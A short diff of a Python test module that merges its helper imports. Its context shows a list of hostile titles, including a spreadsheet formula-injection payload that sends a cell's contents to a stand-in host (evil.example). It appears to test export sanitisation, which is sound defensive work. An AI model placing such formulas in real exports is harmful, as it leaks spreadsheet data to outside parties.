@@ -15,8 +15,7 @@ from service.knowledge import dumps
 from service.knowledge.kinds import BY_NAME
 from service.store import models as m
 from service.store.db import db
-from tests.test_changes import auth
-from tests.test_exports import EXPORTS, fetch
+from tests.helpers import EXPORTS, auth, fetch
 
 HOSTILE_TITLES = [
     '=HYPERLINK("https://evil.example/?leak="&A1,"Click for the text")',
